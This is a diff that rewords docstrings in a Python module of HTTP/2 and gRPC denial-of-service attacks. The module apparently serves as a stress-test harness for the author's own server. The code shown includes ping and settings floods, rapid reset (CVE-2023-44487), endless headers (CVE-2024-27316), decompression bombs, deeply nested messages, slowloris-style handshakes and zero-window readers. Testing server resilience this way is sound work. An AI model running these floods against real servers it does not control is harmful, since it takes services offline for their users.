@@ -1,4 +1,4 @@
-"""The attacks: each wants to cost the vault more than it costs whoever sends it."""
+"""The attacks: each tries to cost the server more than the attacker."""
 
 import asyncio
 import gzip
@@ -19,7 +19,7 @@ _FRAME = 16_384
 
 @dataclass(frozen=True, slots=True)
 class Target:
-    """Whom to attack, as whom, and how hard: 1.0 is the full attack. body: a good request of GetStatus."""
+    """The server, the caller, and the strength: 1.0 is the full attack. body: a valid GetStatus request."""
 
     address: str
     tls: Tls
@@ -41,7 +41,7 @@ async def _connected(target: Target, *, settings: bytes = b"") -> AsyncIterator[
 
 
 def _begin(connection: Connection, *more: tuple[str, str], stream: int | None = None) -> bytes:
-    """Return the frame with which a call begins."""
+    """Return the frame that starts a call."""
     return frame(
         wire.HEADERS,
         flags=wire.END_HEADERS,
@@ -51,7 +51,7 @@ def _begin(connection: Connection, *more: tuple[str, str], stream: int | None = 
 
 
 def _call(connection: Connection, message: bytes, *more: tuple[str, str]) -> list[bytes]:
-    """Return the frames of one whole call, each as large as a frame may be."""
+    """Return the frames of one complete call, each of maximum size."""
     stream = connection.stream()
     parts = [message[place : place + _FRAME] for place in range(0, len(message), _FRAME)]
     return [
@@ -62,7 +62,7 @@ def _call(connection: Connection, message: bytes, *more: tuple[str, str]) -> lis
 
 
 async def _flood(connection: Connection, frames: bytes, times: int) -> int:
-    """Send frames again and again until the vault hangs up; return how often they were sent."""
+    """Send frames repeatedly until the server hangs up; return how often they were sent."""
     sent = 0
     while sent < times and not connection.closed.is_set():
         await connection.send(frames * _CHUNK)
@@ -72,7 +72,7 @@ async def _flood(connection: Connection, frames: bytes, times: int) -> int:
 
 
 async def idle_connections(target: Target) -> str:
-    """Hundreds of connections that say hello and nothing else."""
+    """Hundreds of connections that send only the preface."""
     connections: list[Connection] = []
     try:
         for _ in range(target.times(600)):
@@ -85,7 +85,7 @@ async def idle_connections(target: Target) -> str:
 
 
 async def slow_handshakes(target: Target) -> str:
-    """Connections that begin a TLS handshake a byte at a time and never end it."""
+    """Connections that send a TLS handshake byte by byte and never finish it."""
     host, _, port = target.address.rpartition(":")
     hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500)
     ends = [await asyncio.open_connection(host, int(port)) for _ in range(target.times(600))]
@@ -104,14 +104,14 @@ async def slow_handshakes(target: Target) -> str:
 
 
 async def ping_flood(target: Target) -> str:
-    """Pings as fast as they go."""
+    """Pings as fast as possible."""
     async with _connected(target) as connection:
         sent = await _flood(connection, frame(wire.PING, payload=bytes(8)), target.times(200_000))
         return _told(connection, f"{sent} pings")
 
 
 async def settings_flood(target: Target) -> str:
-    """Settings as fast as they go; each wants an acknowledgement."""
+    """SETTINGS frames as fast as possible; each needs an acknowledgement."""
     async with _connected(target) as connection:
         setting = (4).to_bytes(2, "big") + (65_535).to_bytes(4, "big")
         sent = await _flood(connection, frame(wire.SETTINGS, payload=setting), target.times(100_000))
@@ -119,7 +119,7 @@ async def settings_flood(target: Target) -> str:
 
 
 async def rapid_reset(target: Target) -> str:
-    """Calls that are taken back in the same breath (CVE-2023-44487)."""
+    """Calls that are reset at once (CVE-2023-44487)."""
     sent = 0
     async with _connected(target) as connection:
         total = target.times(100_000)
@@ -137,7 +137,7 @@ async def rapid_reset(target: Target) -> str:
 
 
 async def one_byte_frames(target: Target) -> str:
-    """Messages in frames of one byte each, and frames of none."""
+    """Messages in frames of one byte each, and empty frames."""
     async with _connected(target) as connection:
         message = wire.message(target.body)
         for _ in range(target.times(200)):
@@ -153,7 +153,7 @@ async def one_byte_frames(target: Target) -> str:
 
 
 async def oversized_messages(target: Target) -> str:
-    """Messages of 2 MiB, and such as only say that they have 4 GiB."""
+    """Messages of 2 MiB, and messages that declare 4 GiB."""
     async with _connected(target) as connection:
         for _ in range(target.times(40)):
             await connection.send(*_call(connection, wire.message(b"\n", length=2**32 - 1)))
@@ -163,7 +163,7 @@ async def oversized_messages(target: Target) -> str:
 
 
 async def compressed_bombs(target: Target) -> str:
-    """Messages of some kilobytes that would be 64 MiB once they are unpacked."""
+    """Messages of some kilobytes that decompress to 64 MiB."""
     packed = gzip.compress(bytes(64 * 2**20), compresslevel=9)[:65_000]
     async with _connected(target) as connection:
         for _ in range(target.times(40)):
@@ -174,7 +174,7 @@ async def compressed_bombs(target: Target) -> str:
 
 
 async def nested_messages(target: Target) -> str:
-    """Messages in messages, 20,000 levels deep."""
+    """Messages nested 20,000 levels deep."""
     deep = wire.message(b"\x0b" * 20_000 + b"\x0c" * 20_000)
     async with _connected(target) as connection:
         for _ in range(target.times(400)):
@@ -184,7 +184,7 @@ async def nested_messages(target: Target) -> str:
 
 
 async def endless_headers(target: Target) -> str:
-    """Headers that go on and on without an end (CVE-2024-27316), and headers that are too large."""
+    """Endless headers (CVE-2024-27316), and headers that are too large."""
     async with _connected(target) as connection:
         stream, block = connection.stream(), wire.header_block([("x-filler", "a" * 4_000)])
         await connection.send(frame(wire.HEADERS, stream=stream, payload=wire.call_headers(_PATH)))
@@ -194,13 +194,13 @@ async def endless_headers(target: Target) -> str:
 
 
 async def unfinished_calls(target: Target) -> str:
-    """Calls that begin and never send their message: thousands of them, over several connections."""
+    """Thousands of calls, over several connections, that start and never send their message."""
     connections = [await Connection.open(target.address, target.tls) for _ in range(target.times(10))]
     try:
         for connection in connections:
             for _ in range(_STREAMS // _CHUNK):
                 await connection.send(*(_begin(connection) for _ in range(_CHUNK)))
-                # As fast as the vault takes them; faster ones would be refused by gRPC itself.
+                # As fast as the server accepts them; gRPC would refuse faster ones.
                 await asyncio.sleep(0.05)
         await asyncio.sleep(max(2.0, 8.0 * target.scale))
         ended = sum(connection.seen["RST_STREAM"] + connection.seen["HEADERS"] for connection in connections)
@@ -210,7 +210,7 @@ async def unfinished_calls(target: Target) -> str:
 
 
 async def slow_readers(target: Target) -> str:
-    """Calls whose answers are never read: a window of nothing."""
+    """Calls whose answers are never read: a window of zero."""
     nothing = (4).to_bytes(2, "big") + bytes(4)
     async with _connected(target, settings=nothing) as connection:
         message = wire.message(target.body)
